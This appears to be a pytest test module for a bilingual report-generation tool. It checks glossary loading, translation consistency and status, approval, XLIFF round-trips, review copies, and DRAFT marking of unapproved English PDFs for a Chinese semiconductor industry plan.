    assert load_glossary(tmp_path) == {"太原": Term(("Taiyuan",)), "碳化硅": Term(("silicon carbide", "SiC")),
                                       "挂牌督办": Term(("priority supervision",), ("listed supervision",))}
    assert all(term.avoid for zh, term in load_glossary(ROOT / "content").items()
               if zh in ("挂牌督办", "制高点", "整机", "配套合作", "资产证券化", "国家集成电路产业基金", "产业集群"))


def test_consistency_check():
    a, b, c = seg("合计", "Total", "a"), seg("合计", "Sum", "b"), seg("合计", "Total", "c")
    (finding,) = check([a, b, c], {})
    assert (finding.check, finding.severity, finding.segment_id) == ("consistency", "warning", "b")
    assert "“Total” in a" in finding.message and str(finding).startswith("content/plan.yaml:7:9: warning: b:")
    assert check([a, c], {}) == []


def test_the_real_content_passes_the_checks():
    findings = run_qa(ROOT / "content", ROOT / "templates")
    assert [str(f) for f in findings if f.severity == "error"] == []
    assert main(["i18n", "check", "--content", str(ROOT / "content"), "--templates", str(ROOT / "templates")]) == 0


def test_check_fails_on_an_error(project, capsys):
    content, templates = project
    table = content / "tables" / "key-projects.csv"
    table.write_text(table.read_text(encoding="utf-8").replace(",Taiyuan,", ",太原,", 1), encoding="utf-8")
    assert main(["i18n", "check", "--content", str(content), "--templates", str(templates)]) == 2
    err = capsys.readouterr().err
    assert "key-projects.csv:2:3: error: table.key-projects.kp-01.city: the English is a copy of the Chinese [untranslated]" in err


# --- status, approve, review copies -------------------------------------------------------------------


def test_status_counts(project, capsys):
    content, templates = project
    plan = content / "plan.yaml"
    text = plan.read_text(encoding="utf-8")
    text = text.replace("title: {zh: 重点任务, en: Key Tasks}", "title: {zh: 主要任务, en: Key Tasks}")
    text = text.replace("title: {zh: 推进措施, en: Implementation Measures}", "title: {zh: 推进措施}")
    plan.write_text(text, encoding="utf-8")
    status = translation_status(content, templates)
    assert status.counts == {"untranslated": 1, "needs-review": 1, "translated": 0, "approved": 234}
    assert status.per_document["action-plan"] == {"untranslated": 1, "needs-review": 1, "translated": 0, "approved": 90}
    assert status.per_document["bulletin-2020Q1"] == {"untranslated": 0, "needs-review": 0, "translated": 0, "approved": 123}
    assert [s.id for s, _ in status.needs_work] == ["plan.action-plan.sections.key-tasks.title", "plan.action-plan.sections.measures.title"]
    assert main(["i18n", "status", "--content", str(content), "--templates", str(templates)]) == 0
    out = capsys.readouterr().out
    assert "234 of 236 segments approved; 2 need work; draft documents: action-plan, notice" in out
    assert "needs-review: plan.action-plan.sections.key-tasks.title" in out
    assert main(["i18n", "approve", "plan.action-plan.sections.key-tasks.title", "--content", str(content), "--templates", str(templates)]) == 0
    assert translation_status(content, templates).counts["needs-review"] == 0
    assert status_lines(translation_status(content, templates))[-1].endswith("draft documents: action-plan, notice")


def test_cli_export_and_import(project, tmp_path, capsys):
    content, templates = project
    out = tmp_path / "en.xlf"
    assert main(["i18n", "export", "--lang", "en", "-o", str(out), "--content", str(content), "--templates", str(templates)]) == 0
    assert "236 units (XLIFF 1.2" in capsys.readouterr().out
    assert main(["i18n", "import", str(out), "--content", str(content), "--templates", str(templates)]) == 0
    assert "0 translation(s) changed, 0 state(s) changed, 236 unchanged" in capsys.readouterr().out


def test_review_copies(project):
    content, templates = project
    from reportgen.render import render_html

    copies = review_documents(content, templates)
    docs = {copy_id: context for copy_id, kind, context in copies if kind == "review"}
    assert list(docs) == ["notice", "action-plan", *(f"bulletin-2020Q{q}{city}" for q in range(1, 5) for city in ("", "-taiyuan", "-xinzhou"))]
    assert [copy_id for copy_id, kind, _ in copies if kind == "review-changes"] == [f"{d}-changes" for d in docs]
    rows = lambda context: [r for g in context["groups"] for r in g["rows"]]  # noqa: E731
    assert len(rows(docs["action-plan"])) == 92 and len(rows(docs["notice"])) == 92 + 12
    html = render_html(templates, "review.html.j2", lang="zh", kind="review", **docs["bulletin-2020Q2"])
    assert '<table class="data review">' in html and "<thead>" in html and 'class="doc-title"' in html
    assert '<td lang="en-US">' in html  # the Latin face, US hyphenation
    assert "progress.2020Q2.kp-06.problem" in html and "部分设备采购合同尚在谈判" in html and "slowed the pace of investment" in html
    assert "已审定 approved" in html


def test_build_warns_strict_fails_and_marks_the_english_as_draft_until_approved(tmp_path, capsys):
    """The build's side of the loop: a changed Chinese paragraph → a located warning, --strict
    refuses, the English PDF says DRAFT (banner, title, keywords); approving clears all three."""
    import shutil

    from pypdf import PdfReader

    from conftest import CONTENT, TEMPLATES, pdf_text
    from reportgen.build import build
    from reportgen.cli import main

    content = tmp_path / "content"
    shutil.copytree(CONTENT, content, ignore=shutil.ignore_patterns("bulletins.yaml", "progress"))  # the bulletins do not print the edited text
    plan = content / "plan.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace("把握我国半导体产业链崛起的历史机遇", "把握我国半导体产业链快速崛起的历史机遇"), encoding="utf-8")
    args = ["build", "--content", str(content), "--templates", str(TEMPLATES), "--out", str(tmp_path / "out"), "--format", "pdf", "-j", "2"]

    assert main([*args, "--strict"]) == 2
    assert "plan.action-plan.sections.approach.text" in capsys.readouterr().err
    assert not (tmp_path / "out" / "manifest.json").exists()
    chinese = build(content, tmp_path / "zh", TEMPLATES, ("zh",), ("docx",), strict=True, ids=frozenset({"key-projects"}))
    assert chinese.warnings == []  # the states are about the English: a build of the Chinese alone does not read them

    assert main(args) == 0
    warnings = [line for line in capsys.readouterr().err.splitlines() if ": warning: " in line and "font role" not in line]
    assert len(warnings) == 1 and "plan.yaml:" in warnings[0] and "sections.approach.text" in warnings[0]
    english = PdfReader(tmp_path / "out" / "action-plan.en.pdf")
    assert english.metadata.title.startswith("DRAFT") and "DRAFT" in english.metadata["/Keywords"]
    assert "DRAFT" in pdf_text(tmp_path / "out" / "action-plan.en.pdf")[:200]
    assert "DRAFT" not in PdfReader(tmp_path / "out" / "action-plan.zh.pdf").metadata.title
    assert not PdfReader(tmp_path / "out" / "key-projects.en.pdf").metadata.title.startswith("DRAFT")  # not its segment

    assert main(["i18n", "approve", "plan.action-plan.sections.approach.text", "--content", str(content), "--templates", str(TEMPLATES)]) == 0
    capsys.readouterr()
    assert main([*args, "--strict"]) == 0
    assert not [line for line in capsys.readouterr().err.splitlines() if ": warning: " in line and "font role" not in line]
    assert not PdfReader(tmp_path / "out" / "action-plan.en.pdf").metadata.title.startswith("DRAFT")
